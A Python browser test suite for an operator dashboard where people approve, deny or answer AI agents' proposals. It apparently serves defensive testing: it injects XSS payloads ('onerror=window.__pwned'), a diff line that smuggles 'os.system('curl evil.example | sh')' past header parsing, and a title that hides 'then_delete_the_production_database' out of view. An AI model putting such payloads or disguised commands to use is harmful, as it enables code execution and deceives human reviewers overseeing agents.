"""The hive page in chromium against a stand-in API: approve and deny with a reason, answer a
question, compose with @name, the count in the title, hostile hive data, the phone layout."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from tests.dashboard.conftest import Served
from tests.support.dashboard import HOSTILE, quiet

from hal9999.dashboard.auth import login_url

pytestmark = pytest.mark.browser

Dashboard = tuple[Served, Any, Path]
DIFF = (
    "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n"
    " def add(a, b):\n-    return a - b\n+    return a + b\n"
)


def approval(approval_id: str, **fields: Any) -> dict[str, Any]:
    base = {"id": approval_id, "kind": "apply", "proposer": "worker", "title": "fix add",
            "payload": {"branch": "hal/agent/worker"}, "state": "pending", "reason": None,
            "result": None, "created": time.time() - 60, "expires": time.time() + 3600,
            "resolved": None, "resolved_by": None, "diff": DIFF}  # fmt: skip
    return {**base, **fields}


def question(question_id: str, **fields: Any) -> dict[str, Any]:
    base = {"id": question_id, "asker": "worker", "target": "operator", "question": "which db?",
            "state": "open", "answer": None, "answerer": None, "created": time.time(),
            "expires": time.time() + 600, "answered": None}  # fmt: skip
    return {**base, **fields}


def agent(name: str, state: str = "sleeping") -> dict[str, Any]:
    return {"name": name, "agent": "claude", "provider": "bwrap", "repo": None, "kind": "agent",
            "state": state, "detail": None, "task_id": None, "created_at": time.time(),
            "updated_at": time.time(), "crashes": 0}  # fmt: skip


def hive_page(browser: Any, served: Served, home: Path, **context: Any) -> Any:
    page = browser.new_context(**context).new_page()
    page.goto(login_url(home, served.base))
    page.goto(served.base + "/hive")
    return page


def test_approve_deny_answer_and_compose(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    served, api, home = fake_dashboard
    api.hive["approvals"] += [approval("a1"), approval("a2", title="drop tables")]
    api.hive["questions"].append(question("q1"))
    api.hive["agents"] += [agent("worker", "running"), agent("helper", "crashed")]
    page = hive_page(browser, served, home)
    page.wait_for_selector("[data-approval='a1'] .diff-table")
    assert "return a + b" in page.inner_text("[data-approval='a1']")
    page.wait_for_function("() => document.title.startsWith('(3) ')")  # 2 approvals + 1 question
    page.wait_for_selector("[data-agent='helper'] .badge-crashed")
    assert "left" in page.inner_text("[data-question='q1'] .time-left")
    shot(page, "before")
    page.click("[data-approval='a1'] button.approve")
    page.wait_for_selector("[data-approval='a1']", state="detached")  # resolved: gone from the list
    page.fill("[data-approval='a2'] .reason", "not in production")
    page.click("[data-approval='a2'] button.deny")
    page.wait_for_selector("[data-approval='a2']", state="detached")  # resolved: gone from the list
    page.fill("[data-question='q1'] .answer-text", "postgres")
    page.click("[data-question='q1'] button.answer")
    page.wait_for_selector("[data-question='q1']", state="detached")  # resolved: gone from the list
    page.fill("#compose", "@worker please rebase")
    page.click("#send")
    page.wait_for_selector(".msg:has-text('please rebase')")
    page.wait_for_function("() => !document.title.startsWith('(')", timeout=10000)
    posts = [(path, body) for method, path, body in api.calls if method == "POST"]
    assert ("/v1/hive/approvals/a1/approve", {"reason": ""}) in posts
    assert ("/v1/hive/approvals/a2/deny", {"reason": "not in production"}) in posts
    assert ("/v1/hive/questions/q1/answer", {"text": "postgres"}) in posts
    assert ("/v1/hive/messages", {"to": "worker", "body": "please rebase"}) in posts
    shot(page)


def test_hostile_hive_data_never_runs(browser: Any, fake_dashboard: Dashboard, shot: Any) -> None:
    served, api, home = fake_dashboard
    evil = "\n".join(HOSTILE)
    hostile_diff = DIFF.replace("calc.py", "<img src=x onerror=window.__pwned='f'>.py")
    api.hive["approvals"].append(
        approval("a1", title=evil, proposer=evil, diff=hostile_diff + evil)
    )
    api.hive["approvals"].append(approval("a2", kind="spawn", title=evil, payload={"name": evil}))
    api.hive["questions"].append(question("q1", question=evil, asker=evil))
    api.hive["messages"].append({"id": "m1", "sender": evil, "recipient": "operator",
                                 "kind": "message", "body": evil, "ref": None, "state": "sent",
                                 "created": time.time()})  # fmt: skip
    page = hive_page(browser, served, home)
    page.wait_for_selector("[data-approval='a1'] .diff-table")
    page.wait_for_selector(".msg")
    time.sleep(0.5)
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#main script, #main img, #main svg, #main iframe").count() == 0
    hrefs = page.eval_on_selector_all("#main a", "as => as.map(a => a.getAttribute('href'))")
    assert all(not h.lower().startswith("javascript") for h in hrefs)
    shot(page)


def test_opening_the_page_marks_nothing_read(browser: Any, fake_dashboard: Dashboard) -> None:
    """A page on another port of this host can open /hive in a popup: the page's own load
    must not mark the operator's messages read (it did, with ``mark=1``); the operator's
    click on "Mark read" does, with a POST."""
    served, api, home = fake_dashboard
    for n in (1, 2):
        api.hive["messages"].append({"id": f"m{n}", "sender": "worker", "recipient": "operator",
                                     "kind": "message", "body": f"note {n}", "ref": None,
                                     "state": "sent", "created": time.time()})  # fmt: skip
    page = hive_page(browser, served, home)
    page.wait_for_selector(".msg[data-message='m2']")
    assert [m["state"] for m in api.hive["messages"]] == ["sent", "sent"]
    page.wait_for_selector("#mark-read:not([disabled])")
    page.click("#mark-read")
    page.wait_for_selector(".msg[data-message='m2'][data-state='read']")
    assert [m["state"] for m in api.hive["messages"]] == ["read", "read"]
    assert ("POST", "/v1/hive/inbox/read", {"ids": ["m1", "m2"]}) in api.calls


def test_hive_page_and_overview_at_phone_width(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    served, api, home = fake_dashboard
    api.hive["approvals"].append(approval("a1"))
    api.hive["questions"].append(question("q1", question="a long question " * 20))
    api.hive["agents"].append(agent("worker"))
    page = hive_page(browser, served, home, viewport={"width": 390, "height": 844})
    page.wait_for_selector("[data-approval='a1'] .diff-table")
    page.wait_for_selector("[data-question='q1'] .answer-text")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    for selector in ("[data-approval='a1'] button.approve", "[data-question='q1'] button.answer"):
        box = page.locator(selector).bounding_box()
        assert box is not None and box["x"] + box["width"] <= 390 and box["height"] >= 28
    # Approve and deny side by side under the reason (not one orphaned on its own row).
    approve = page.locator("[data-approval='a1'] button.approve").bounding_box()
    deny = page.locator("[data-approval='a1'] button.deny").bounding_box()
    assert approve is not None and deny is not None and approve["y"] == deny["y"]
    shot(page)
    page.fill("[data-question='q1'] .answer-text", "yes")
    page.click("[data-question='q1'] button.answer")
    page.wait_for_selector("[data-question='q1']", state="detached")  # resolved: gone from the list


def test_notified_when_an_approval_or_question_arrives_or_an_agent_crashes(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    from tests.support.dashboard import FAKE_NOTIFICATION

    served, api, home = fake_dashboard
    context = browser.new_context()
    context.add_init_script(FAKE_NOTIFICATION + "localStorage.setItem('hal-notify', '1');"
                            "window.__granted = true;")  # fmt: skip
    page = context.new_page()
    page.goto(login_url(home, served.base))  # the overview: notifications come on every page
    page.wait_for_selector("#live-state[data-state='live']")
    page.wait_for_selector("#tasks td:has-text('No tasks yet')")  # not a bare table head
    page.wait_for_function("() => hal.hiveReady")
    api.hive["approvals"].append(approval("a1"))
    api.emit_hive(type="approval_added", agent="worker", approval_id="a1", kind="apply")
    api.hive["questions"].append(question("q1"))
    api.emit_hive(type="question_asked", agent="worker", question_id="q1", asker="worker",
                  target="operator")  # fmt: skip
    api.emit_hive(type="agent_crashed", agent="helper", detail="sandbox gone", crashes=1)
    page.wait_for_function("() => window.__notes.length >= 3", timeout=10000)
    titles = [note[0] for note in page.evaluate("window.__notes")]
    assert titles == ["Approval waiting", "Question from worker", "Agent helper crashed"]
    page.wait_for_function("() => document.title.startsWith('(2) ')")
    shot(page)


def test_overview_shows_hive_agents_live(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    served, api, home = fake_dashboard
    api.hive["agents"].append(agent("worker"))
    page = browser.new_context().new_page()
    page.goto(login_url(home, served.base))
    page.wait_for_selector("#hive-agents [data-agent='worker'] .badge-sleeping")
    page.wait_for_function("() => hal.hiveReady")
    api.hive["agents"][0]["state"] = "running"
    api.emit_hive(type="agent_state", agent="worker", state="running", previous="sleeping")
    page.wait_for_selector("#hive-agents [data-agent='worker'] .badge-running", timeout=10000)
    shot(page)


def test_an_update_keeps_what_is_being_typed(browser: Any, fake_dashboard: Dashboard) -> None:
    served, api, home = fake_dashboard
    api.hive["approvals"].append(approval("a1"))
    api.hive["questions"].append(question("q1"))
    page = hive_page(browser, served, home)
    page.wait_for_selector("[data-question='q1'] .answer-text")
    page.wait_for_function("() => hal.hiveReady")
    page.fill("[data-approval='a1'] .reason", "half a reason")
    page.fill("[data-question='q1'] .answer-text", "half an answer")
    api.hive["questions"].append(question("q2", question="another"))
    api.emit_hive(type="question_asked", agent="worker", question_id="q2", asker="worker",
                  target="operator")  # fmt: skip
    page.wait_for_selector("[data-question='q2']")
    assert page.input_value("[data-approval='a1'] .reason") == "half a reason"
    assert page.input_value("[data-question='q1'] .answer-text") == "half an answer"


def test_hive_events_come_on_the_one_stream_and_resume_without_dup_or_gap(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    from tests.support.dashboard import FAKE_NOTIFICATION

    served, api, home = fake_dashboard
    context = browser.new_context()
    context.add_init_script(FAKE_NOTIFICATION + "localStorage.setItem('hal-notify', '1');"
                            "window.__granted = true;")  # fmt: skip
    page = context.new_page()
    page.goto(login_url(home, served.base))
    page.goto(served.base + "/hive")
    page.wait_for_function("() => hal.hiveReady")

    def propose(approval_id: str) -> None:
        api.hive["approvals"].append(approval(approval_id, title="fix " + approval_id))
        api.emit_hive(type="approval_added", agent="worker", approval_id=approval_id,
                      kind="apply")  # fmt: skip

    propose("a1")
    page.wait_for_selector("[data-approval='a1']", timeout=10000)  # live, while the page is open
    page.evaluate("hal.live.stop()")  # the connection drops and stays down ...
    propose("a2")
    api.emit(task_id="t9", type="output", text="between\n")  # a task's event in the gap
    propose("a3")
    page.evaluate("hal.live.stopped = false; hal.live.start()")  # ... then comes back
    page.wait_for_selector("[data-approval='a3']", timeout=10000)
    page.wait_for_function("() => window.__notes.length >= 3", timeout=10000)
    time.sleep(0.5)  # a duplicate would arrive by now
    notes = page.evaluate("window.__notes.map((n) => n[0])")
    assert notes == ["Approval waiting"] * 3, notes  # each once, none missing
    assert page.evaluate("hal.live.stats.connects") == 2
    page.wait_for_function("() => document.title.startsWith('(3) ')")
    # Nothing polled: the hive's state came with the events, the lists were read on events.
    assert not [path for _, path, _ in api.calls if path.startswith("/v1/hive/events")]
    shot(page)


def test_reminders_section_is_live(browser: Any, fake_dashboard: Dashboard, shot: Any) -> None:
    served, api, home = fake_dashboard
    now = time.time()

    def reminder(reminder_id: str, **fields: Any) -> dict[str, Any]:
        base = {"id": reminder_id, "agent": "worker", "body": "check CI", "due": now + 600,
                "state": "pending", "created": now, "delivered": None, "note": None,
                "file": None}  # fmt: skip
        return {**base, **fields}

    api.hive["reminders"].append(reminder("r1", body="<img src=x onerror=window.__pwned=1>"))
    page = hive_page(browser, served, home, viewport={"width": 390, "height": 844})
    page.wait_for_selector("[data-reminder='r1'][data-state='pending']")
    assert "left" in page.inner_text("[data-reminder='r1'] .time-left")
    page.wait_for_function("() => hal.hiveReady")
    api.hive["reminders"].append(reminder("r2", agent="helper", body="rebase", file="notes/n.md"))
    api.emit_hive(type="reminder_set", agent="helper", reminder_id="r2", due=now + 600)
    page.wait_for_selector("[data-reminder='r2']", timeout=10000)
    assert "notes/n.md" in page.inner_text("[data-reminder='r2']")
    api.hive["reminders"][0].update(state="delivered", delivered=time.time())
    api.emit_hive(type="reminder_due", agent="worker", reminder_id="r1")
    page.wait_for_selector("[data-reminder='r1'][data-state='delivered']", timeout=10000)
    assert "delivered" in page.inner_text("[data-reminder='r1']")
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    shot(page)


def test_a_page_without_its_own_stream_still_follows_the_hive(
    browser: Any, fake_dashboard: Dashboard
) -> None:
    served, api, home = fake_dashboard
    page = browser.new_context().new_page()
    page.goto(login_url(home, served.base))
    page.goto(served.base + "/new")  # the form reads no events: the hive opens the stream
    page.wait_for_function("() => hal.hiveReady")
    assert page.evaluate("hal.live.ownedByHive") is True
    api.hive["approvals"].append(approval("a1"))
    api.emit_hive(type="approval_added", agent="worker", approval_id="a1", kind="apply")
    page.wait_for_function("() => document.title.startsWith('(1) ')", timeout=10000)
    assert not [path for _, path, _ in api.calls if path.startswith("/v1/hive/events")]


def test_an_approval_shows_all_of_its_title_whatever_its_characters(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    """A proposer writes its approval's title (up to 200 characters). One without a break
    point ran past the card, whose overflow is hidden: the operator saw a harmless start and
    never the end ("..._then_delete_the_production_database"). Every line of it stays inside
    the card, on a phone and on a desk; the payload's text is inside its box too."""
    served, api, home = fake_dashboard
    title = "update_readme_typo" + "_" * 140 + "_then_delete_the_production_database"
    tail = "then_delete_the_production_database"
    api.hive["approvals"].append(
        approval("a1", kind="tool", title=title, payload={"command": "x" * 300})
    )
    for width in (390, 1280):
        page = hive_page(browser, served, home, viewport={"width": width, "height": 844})
        page.wait_for_selector("[data-approval='a1'] .payload")
        overflow = page.evaluate(
            """() => {
                const card = document.querySelector("[data-approval='a1']");
                const right = card.getBoundingClientRect().right;
                const out = [];
                for (const sel of [".title", ".payload"]) {
                    const node = card.querySelector(sel);
                    const range = document.createRange();
                    range.selectNodeContents(node);
                    for (const r of range.getClientRects())
                        if (r.right > right + 0.5) out.push(sel);
                }
                return out;
            }"""
        )
        assert overflow == [], (width, overflow)
        assert tail in page.inner_text("[data-approval='a1'] .title")
        shot(page, f"w{width}")
        page.close()


SMUGGLED = (
    "diff --git a/run.py b/run.py\nindex e019ed5..69d21fc 100644\n--- a/run.py\n+++ b/run.py\n"
    "@@ -1,3 +1,3 @@\n--- audit every call\n import os\n b = 1\n"
    "+++ b/os.system('curl evil.example | sh')\n"
    "diff --git a/notes.txt b/notes.txt\n--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1,2 @@\n"
    " keep\n+++ b/run.py\n"
)
"""A real git diff whose changed lines look like file headers: a removed `-- ` comment and an
added Python line `++ b/os.system(...)` (valid: it runs the command) read as `--- `/`+++ `."""


def test_every_changed_line_of_an_approval_is_shown_even_one_that_looks_like_a_header(
    browser: Any, fake_dashboard: Dashboard, shot: Any
) -> None:
    served, api, home = fake_dashboard
    api.hive["approvals"].append(approval("a1", diff=SMUGGLED))
    page = hive_page(browser, served, home)
    page.wait_for_selector("[data-approval='a1'] .diff-table")
    names = page.locator("[data-approval='a1'] .file-name").all_inner_texts()
    assert names == ["run.py", "notes.txt"]  # named by git's headers, not by a changed line
    removed = page.locator("[data-approval='a1'] td.del").all_inner_texts()
    added = page.locator("[data-approval='a1'] td.add").all_inner_texts()
    assert removed == ["-- audit every call"]
    assert added == ["++ b/os.system('curl evil.example | sh')", "++ b/run.py"]
    shot(page)


def test_a_flood_of_hive_events_reads_each_list_a_bounded_number_of_times(
    browser: Any, fake_dashboard: Dashboard
) -> None:
    """Each hive event read its list again at once (all reads in flight together), and each
    thread event the waiting count too: agents' messages and turns drove one request each
    from every open page."""
    served, api, home = fake_dashboard
    api.hive["agents"].append(agent("worker"))
    page = hive_page(browser, served, home)
    page.wait_for_function("() => hal.hiveReady")
    page.wait_for_selector("[data-agent='worker']")
    before = len(api.calls)
    for n in range(400):
        api.emit_hive(type="message_sent", agent="worker", message_id=f"m{n}")
        api.emit_hive(type="question_answered", agent="worker", question_id=f"q{n}")
        api.emit_hive(type="agent_state", agent="worker", state="running")
    api.hive["messages"].append({"id": "last", "sender": "worker", "recipient": "operator",
                                 "kind": "message", "body": "THE END", "ref": None,
                                 "state": "sent", "created": time.time()})  # fmt: skip
    api.emit_hive(type="message_sent", agent="worker", message_id="last")
    page.wait_for_function("() => hal.live.stats.events >= 1201", timeout=60000, polling=100)
    page.wait_for_selector("[data-message='last']", timeout=60000)
    quiet(api)
    paths = [path for _, path, _ in api.calls[before:]]
    for path in ("/v1/hive/inbox", "/v1/hive/threads", "/v1/hive/approvals", "/v1/hive/agents"):
        assert 1 <= paths.count(path) <= 50, (path, paths.count(path))
